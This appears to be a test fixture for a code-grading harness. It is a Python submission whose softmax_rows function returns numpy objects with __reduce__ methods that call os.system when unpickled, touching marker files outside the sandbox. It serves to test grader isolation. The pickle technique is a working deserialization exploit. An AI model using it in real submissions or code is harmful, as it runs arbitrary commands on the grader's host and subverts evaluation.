# Tries to run a command in the grader by returning an array of objects whose pickle calls os.system.
import os
import numpy as np


class Command:
    def __reduce__(self):
        return os.system, ("touch '@OUTSIDE@/returned_command_ran'",)

    def __float__(self):
        return 0.0


class Array(np.ndarray):
    def __reduce__(self):
        return os.system, ("touch '@OUTSIDE@/returned_array_ran'",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


# %%
CALLS = []


def softmax_rows(scores, axis=-1):
    CALLS.append(1)
    shape = np.shape(scores)
    if len(CALLS) % 2:
        return np.full(shape, Command(), dtype=object)
    return np.zeros(shape).view(Array)
